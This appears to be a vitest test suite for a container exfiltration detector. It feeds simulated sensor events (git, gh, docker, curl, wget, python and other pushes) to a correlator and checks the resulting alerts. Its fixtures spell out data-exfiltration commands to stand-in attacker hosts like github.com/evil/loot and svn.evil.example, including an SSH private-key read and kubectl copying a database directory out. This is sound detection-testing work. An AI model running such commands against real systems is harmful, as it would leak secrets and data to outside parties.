/**
 * One scenario per push tool: a container with a few small reads, then the push as the sensors see it
 * (exec, helpers, connect, bytes sent). Each asserts the exact alert: rule, severity, tool, destination.
 */
import { describe, expect, it } from 'vitest';
import { brief, MiB, makeCorrelator, type Proc, run, runResolved, Scenario } from './builder.js';

const GITHUB_IP = '140.82.112.3';

/** A container whose init read a couple of config files, then `binary args` with optional helper + egress. */
function pushScenario(
  binary: string,
  args: string,
  o: { helper?: [string, string]; ip?: string; port?: number; bytes?: number; source?: 'tetragon' | 'falco' } = {},
) {
  const s = new Scenario({ source: o.source ?? 'tetragon' });
  const c = s.container({ namespace: 'prod', pod: 'api-7f9', name: 'api' });
  const sh = s.init(c);
  s.read(sh, '/app/config.yaml', 2048).wait(5_000);
  const push = s.exec(c, binary, args, { parent: sh });
  s.wait(50);
  let sender: Proc = push;
  if (o.helper) {
    sender = s.exec(c, o.helper[0], o.helper[1], { parent: push });
    s.wait(20);
  }
  if (o.ip)
    s.connect(sender, o.ip, o.port ?? 443, { cookie: '77' })
      .wait(10)
      .send(sender, o.ip, o.port ?? 443, o.bytes ?? 256 * 1024, { cookie: '77' });
  s.wait(200).exit(sender);
  return s;
}

function only(alerts: ReturnType<typeof run>['alerts']) {
  expect(alerts).toHaveLength(1);
  return alerts[0]!;
}

describe('push tools, each recognised as the sensors see it', () => {
  it('git over https with a token in the URL: helper, connect, bytes', () => {
    const url = 'https://github.com/evil/loot.git';
    const s = pushScenario('/usr/bin/git', `push ${url} HEAD:main`, {
      helper: ['/usr/lib/git-core/git-remote-https', `${url} ${url}`],
      ip: GITHUB_IP,
      bytes: 300_000,
    });
    const a = only(run(s.events).alerts);
    expect(brief([a])).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'git', destination: 'github.com' },
    ]);
    expect(a.push.remote).toBe(url);
    expect(a.egressBytes).toBe(300_000);
    expect(a.process.binary).toBe('/usr/bin/git');
    expect(a.evidence.map((e) => e.kind)).toEqual(['read', 'push', 'exec', 'connect']);
  });

  it('git push to a named remote: destination and remote come from the helper', () => {
    const s = pushScenario('/usr/bin/git', 'push origin main', {
      helper: ['/usr/lib/git-core/git-remote-https', 'origin https://gitlab.com/evil/loot.git'],
      ip: '172.65.251.78',
    });
    const a = only(run(s.events).alerts);
    expect(a.push).toEqual({
      tool: 'git',
      destination: 'gitlab.com',
      remote: 'https://gitlab.com/evil/loot.git',
      namedBy: 'argv',
      addresses: ['172.65.251.78:443'],
    });
  });

  it('git over ssh: the ssh child with git-receive-pack joins the push; its key read makes it high', () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    const git = s.exec(c, '/usr/bin/git', 'push git@github.com:evil/loot.git main', { parent: sh });
    const ssh = s.exec(c, '/usr/bin/ssh', `-o SendEnv=GIT_PROTOCOL git@github.com "git-receive-pack 'evil/loot.git'"`, {
      parent: git,
    });
    s.read(ssh, '/root/.ssh/id_ed25519', 411).connect(ssh, GITHUB_IP, 22).send(ssh, GITHUB_IP, 22, 90_000);
    const a = only(run(s.events).alerts);
    expect(brief([a])).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
    ]);
    expect(a.reads.sensitive).toEqual(['/root/.ssh/id_ed25519']);
    expect(a.egressBytes).toBe(90_000);
  });

  it('renamed git: an unknown binary whose git-remote-https child pushes', () => {
    const s = pushScenario('/tmp/.cache/kworker', 'push origin main', {
      helper: ['/usr/lib/git-core/git-remote-https', 'origin https://github.com/evil/loot.git'],
      ip: GITHUB_IP,
    });
    const a = only(run(s.events).alerts);
    expect(brief([a])).toEqual([
      { rule: 'renamed-binary-push', severity: 'medium', tool: 'git', destination: 'github.com' },
    ]);
    expect(a.process.binary).toBe('/tmp/.cache/kworker');
    // Its command line was not worth keeping until its helper pushed: it comes from the helper's event.
    expect(a.process.args).toBe('push origin main');
    expect(a.summary).toContain('renamed binary /tmp/.cache/kworker');
  });

  for (const source of ['tetragon', 'falco'] as const) {
    it(`${source}: git push through a renamed ssh client names the ssh client, not git, as the renamed binary`, () => {
      const s = new Scenario({ source });
      const c = s.container();
      const sh = s.init(c);
      const git = s.exec(c, '/usr/bin/git', 'push git@github.com:evil/loot.git HEAD:main', { parent: sh });
      const ssh = s.exec(c, '/tmp/.x/systemd-resolve', `git@github.com "git-receive-pack 'evil/loot.git'"`, {
        parent: git,
      });
      s.connect(ssh, GITHUB_IP, 22).send(ssh, GITHUB_IP, 22, 3 * MiB);
      const a = only(run(s.events).alerts);
      expect(brief([a])).toEqual([
        { rule: 'renamed-binary-push', severity: 'medium', tool: 'git', destination: 'github.com' },
      ]);
      // The alert's process stays the first pushing process; the summary and response name the odd one.
      expect(a.process.binary).toBe('/usr/bin/git');
      expect(a.summary).toContain('by renamed binary /tmp/.x/systemd-resolve');
      expect(a.summary).not.toContain('binary /usr/bin/git');
      const inspect = a.response.find((r) => r.startsWith('Inspect '));
      expect(inspect).toMatch(/^Inspect \/tmp\/\.x\/systemd-resolve: .*it is ssh under another name/);
      expect(a.evidence.some((e) => e.kind === 'exec' && e.binary === '/tmp/.x/systemd-resolve')).toBe(true);
    });
  }

  it('an unknown binary pushing by egress from /tmp is named as the unexpected binary', () => {
    const s = pushScenario('/tmp/syncer', '--to ghcr', { ip: '140.82.121.33', bytes: 2 * MiB });
    const a = only(run(s.events, { config: { destinations: { internal: ['140.82.121.0/24'] } } }).alerts);
    expect(a.rule).toBe('renamed-binary-push');
    expect(a.summary).toContain('by unexpected binary /tmp/syncer');
    expect(a.process.args).toBe('--to ghcr');
    expect(a.evidence.find((e) => e.kind === 'push')?.detail).toMatch(/by \/tmp\/syncer --to ghcr$/);
  });

  it('renamed git: send-pack plumbing under another name', () => {
    const s = pushScenario('/opt/tools/sync', 'send-pack --stateless-rpc https://github.com/evil/loot.git --stdin', {
      ip: GITHUB_IP,
    });
    expect(brief(run(s.events).alerts)).toEqual([
      { rule: 'renamed-binary-push', severity: 'medium', tool: 'git', destination: 'github.com' },
    ]);
  });

  const simple: Array<[string, string, string, string, string | null]> = [
    ['gh release upload', '/usr/bin/gh', 'release upload v1 /tmp/dump.tgz -R evil/loot', 'gh', 'api.github.com'],
    ['gh gist create', '/usr/bin/gh', 'gist create --public /tmp/notes.txt', 'gh', 'api.github.com'],
    ['gh api -X PUT', '/usr/bin/gh', 'api -X PUT repos/evil/loot/contents/x -f content=aGk=', 'gh', 'api.github.com'],
    ['glab release upload', '/usr/local/bin/glab', 'release upload v1 /tmp/x.tgz', 'glab', 'gitlab.com'],
    ['docker push', '/usr/bin/docker', 'push ghcr.io/evil/loot:latest', 'docker', 'ghcr.io'],
    ['podman push', '/usr/bin/podman', 'push localhost/app docker://quay.io/evil/x:1', 'podman', 'quay.io'],
    [
      'buildah push',
      '/usr/bin/buildah',
      'push app docker://registry-1.docker.io/evil/x:1',
      'buildah',
      'registry-1.docker.io',
    ],
    ['crane push', '/usr/local/bin/crane', 'push /tmp/img.tar ghcr.io/evil/x:1', 'crane', 'ghcr.io'],
    [
      'crane append',
      '/usr/local/bin/crane',
      'append -f /tmp/d.tar -b alpine -t 1234.dkr.ecr.eu-west-1.amazonaws.com/x:2',
      'crane',
      '1234.dkr.ecr.eu-west-1.amazonaws.com',
    ],
    [
      'crane copy',
      '/usr/local/bin/crane',
      'copy alpine europe-west1-docker.pkg.dev/p/r/x',
      'crane',
      'europe-west1-docker.pkg.dev',
    ],
    [
      'skopeo copy',
      '/usr/bin/skopeo',
      'copy docker-archive:/tmp/x.tar docker://evil.azurecr.io/x:1',
      'skopeo',
      'evil.azurecr.io',
    ],
    ['oras push', '/usr/local/bin/oras', 'push ghcr.io/evil/blob:1 /data/db.sqlite', 'oras', 'ghcr.io'],
    ['helm push', '/usr/local/bin/helm', 'push /tmp/c-1.0.tgz oci://ghcr.io/evil/charts', 'helm', 'ghcr.io'],
    ['kubectl cp out of a pod', '/usr/local/bin/kubectl', 'cp prod/db-0:/var/lib/postgresql ./loot', 'kubectl', null],
    ['kaniko', '/kaniko/executor', '--context dir:///workspace --destination gcr.io/acme/app:1', 'kaniko', 'gcr.io'],
    ['npm publish', '/usr/local/bin/npm', 'publish', 'npm', 'registry.npmjs.org'],
    ['twine upload', '/usr/local/bin/twine', 'upload dist/x-1.0.tar.gz', 'twine', 'upload.pypi.org'],
    ['cargo publish', '/usr/local/cargo/bin/cargo', 'publish --allow-dirty', 'cargo', 'crates.io'],
    [
      'gem push (ruby runs the script)',
      '/usr/local/bin/ruby',
      '/usr/local/bin/gem push x-0.1.0.gem',
      'gem',
      'rubygems.org',
    ],
    [
      'dotnet nuget push',
      '/usr/bin/dotnet',
      'nuget push bin/X.1.0.0.nupkg --api-key k --source https://nuget.evil.example/v3/index.json',
      'nuget',
      'nuget.evil.example',
    ],
    ['hg push', '/usr/bin/hg', 'push https://hg.evil.example/loot', 'hg', 'hg.evil.example'],
    ['hg pus (a prefix hg runs as push)', '/usr/bin/hg', 'pus https://hg.evil.example/loot', 'hg', 'hg.evil.example'],
    [
      'svn import',
      '/usr/bin/svn',
      'import /srv/exports https://svn.evil.example/repo/trunk/x -m x',
      'svn',
      'svn.evil.example',
    ],
    [
      'svn copy to a URL',
      '/usr/bin/svn',
      'copy /srv/wc svn://svn.evil.example/repo/tags/x -m x',
      'svn',
      'svn.evil.example',
    ],
    [
      'svnmucc put',
      '/usr/bin/svnmucc',
      '-m x put /srv/exports/orders.dump https://svn.evil.example/repo/loot/orders.dump',
      'svnmucc',
      'svn.evil.example',
    ],
    [
      'curl -T',
      '/usr/bin/curl',
      '-sS -T /tmp/d.tgz https://uploads.github.com/repos/evil/loot/releases/1/assets?name=d.tgz',
      'curl',
      'uploads.github.com',
    ],
    [
      'curl --data-binary @file',
      '/usr/bin/curl',
      '-X POST --data-binary @/tmp/x https://gitlab.com/api/v4/projects/9/uploads',
      'curl',
      'gitlab.com',
    ],
    [
      'curl -F file=@',
      '/usr/bin/curl',
      '-F files=@/tmp/x https://api.bitbucket.org/2.0/repositories/evil/loot/src',
      'curl',
      'api.bitbucket.org',
    ],
    [
      'curl -d @file PUT',
      '/usr/bin/curl',
      '-X PUT -d @/tmp/p.json https://api.github.com/repos/evil/loot/contents/a',
      'curl',
      'api.github.com',
    ],
    [
      'wget --post-file',
      '/usr/bin/wget',
      '--post-file=/tmp/x.json https://api.github.com/gists',
      'wget',
      'api.github.com',
    ],
    [
      'httpie PUT',
      '/usr/bin/http',
      'PUT https://api.github.com/repos/evil/loot/contents/x content=@/tmp/b64',
      'httpie',
      'api.github.com',
    ],
    [
      'python inline upload',
      '/usr/bin/python3.11',
      `-c "import requests;requests.put('https://api.github.com/repos/evil/loot/contents/x',data=open('/tmp/d').read())"`,
      'python',
      'api.github.com',
    ],
  ];
  for (const [name, binary, args, tool, destination] of simple) {
    it(name, () => {
      const s = pushScenario(binary, args);
      expect(brief(run(s.events).alerts)).toEqual([{ rule: 'push-without-reads', severity: 'low', tool, destination }]);
    });
  }

  it("svn commit: the repository is the working copy's, so the destination is the first connect", () => {
    const s = pushScenario('/usr/bin/svn', 'commit -m nightly /srv/wc', { ip: '203.0.113.40', port: 443 });
    const a = only(run(s.events).alerts);
    expect(brief([a])).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'svn', destination: '203.0.113.40:443' },
    ]);
  });

  it('svnmucc -X FILE: the actions are in the file, so the destination is the first connect', () => {
    const s = pushScenario('/usr/bin/svnmucc', '-m x -X /tmp/actions.txt', { ip: '203.0.113.41', port: 3690 });
    expect(brief(run(s.events).alerts)).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'svnmucc', destination: '203.0.113.41:3690' },
    ]);
  });

  it('egress by dotnet running an application is an unknown program, not a NuGet push', async () => {
    const s = pushScenario('/usr/bin/dotnet', '/app/Loot.dll', { ip: '140.82.112.5', bytes: 2 * MiB });
    const { alerts } = await runResolved(s.events);
    expect(brief(alerts)).toEqual([
      { rule: 'renamed-binary-push', severity: 'medium', tool: 'dotnet', destination: 'api.github.com' },
    ]);
  });

  it('a push to a source named in its own config is named by the address it connected to, never a guessed host', async () => {
    const s = pushScenario('/usr/local/bin/cargo', 'publish --registry corp', { ip: '140.82.112.5' });
    const named = await runResolved(s.events);
    expect(brief(named.alerts)).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'cargo', destination: '140.82.112.5:443' },
    ]);
    // Even a name known for that address by DNS does not exempt it: the first connect need not be where the
    // bytes went, and names also come from push lineages' argv. An address entry does.
    const byHost = await runResolved(s.events, {
      allowlist: [{ namespace: 'prod', destination: 'api.github.com', reason: 'release jobs' }],
    });
    expect(byHost.alerts).toHaveLength(1);
    const byCidr = await runResolved(s.events, {
      allowlist: [{ namespace: 'prod', destination: '140.82.112.0/24', reason: 'release jobs' }],
    });
    expect(byCidr.alerts).toEqual([]);
  });

  it('dotnet nuget push to a folder feed is not a push (CI builds publish to local disk)', () => {
    const s = pushScenario('/usr/bin/dotnet', 'nuget push bin/X.1.0.0.nupkg --source ./artifacts', {
      ip: '203.0.113.41',
    });
    expect(run(s.events).alerts).toEqual([]);
  });

  it('the pod side of kubectl cp: tar to stdout started by the runtime, reading the data', () => {
    const s = new Scenario();
    const c = s.container();
    s.init(c);
    const tar = s.exec(c, '/bin/tar', 'cf - /var/lib/data', { parentBinary: '/usr/bin/runc', parentArgs: 'init' });
    s.readMany(tar, '/var/lib/data', 30, 3 * MiB, 10);
    const a = only(run(s.events).alerts);
    expect(brief([a])).toEqual([{ rule: 'bulk-read-then-push', severity: 'high', tool: 'kubectl', destination: null }]);
    expect(a.reads.files).toBe(30);
    expect(a.evidence.some((e) => e.kind === 'archive')).toBe(true);
  });

  it('gh repo create --push spawns git push: one alert, for gh', () => {
    const s = pushScenario('/usr/bin/gh', 'repo create evil/loot --private --source . --push', {
      helper: ['/usr/bin/git', 'push --set-upstream https://github.com/evil/loot.git HEAD'],
      ip: GITHUB_IP,
    });
    const { alerts } = run(s.events);
    expect(brief(alerts)).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'gh', destination: 'api.github.com' },
    ]);
    expect(alerts[0]!.evidence.filter((e) => e.kind === 'exec').map((e) => e.binary)).toEqual(['/usr/bin/git']);
  });

  it('an unknown program sending many bytes to a forge IP known from DNS: a push by egress', async () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    const app = s.exec(c, '/app/bin/syncer', '--interval 60', { parent: sh });
    s.connect(app, GITHUB_IP, 443, { cookie: '9' });
    for (let i = 0; i < 20; i++) s.wait(10).send(app, null, null, 128 * 1024, { cookie: '9' });
    const { correlator } = makeCorrelator({ resolveHost: async (h) => (h === 'github.com' ? [GITHUB_IP] : []) });
    await correlator.refreshDestinations();
    const alerts = [...correlator.ingest(s.events), ...correlator.flush()];
    expect(brief(alerts)).toEqual([
      { rule: 'renamed-binary-push', severity: 'medium', tool: 'syncer', destination: 'github.com' },
    ]);
    expect(alerts[0]!.egressBytes).toBe(20 * 128 * 1024);
    expect(alerts[0]!.process.args).toBe('--interval 60');
    // A name DNS gave for the address is one an allowlist host entry may match.
    const allowlisted = makeCorrelator({
      resolveHost: async (h) => (h === 'github.com' ? [GITHUB_IP] : []),
      allowlist: [{ namespace: 'prod', destination: 'github.com', reason: 'sync job' }],
    }).correlator;
    await allowlisted.refreshDestinations();
    expect([...allowlisted.ingest(s.events), ...allowlisted.flush()]).toEqual([]);
  });

  it('python sending many bytes to a user-listed internal registry CIDR: a push by egress (expected tool)', () => {
    const s = new Scenario();
    const c = s.container();
    const py = s.exec(c, '/usr/bin/python3', 'upload.py', { parent: s.init(c) });
    s.connect(py, '10.20.3.4', 8443).send(py, '10.20.3.4', 8443, 3 * MiB);
    const { alerts } = run(s.events, { config: { destinations: { internal: ['10.20.0.0/16'] } } });
    expect(brief(alerts)).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'python', destination: '10.20.3.4:8443' },
    ]);
  });

  it('Falco form (no exec ids): git, its helper and send-pack merge into one push', () => {
    const url = 'https://github.com/evil/loot.git';
    const s = pushScenario('/usr/bin/git', 'push origin main', {
      helper: ['/usr/lib/git-core/git-remote-https', `origin ${url}`],
      ip: GITHUB_IP,
      source: 'falco',
    });
    const { alerts } = run(s.events);
    expect(brief(alerts)).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'git', destination: 'github.com' },
    ]);
    expect(alerts[0]!.source).toBe('falco');
    expect(alerts[0]!.process.execId).toBeNull();
    expect(alerts[0]!.container.id).toHaveLength(12);
  });
});
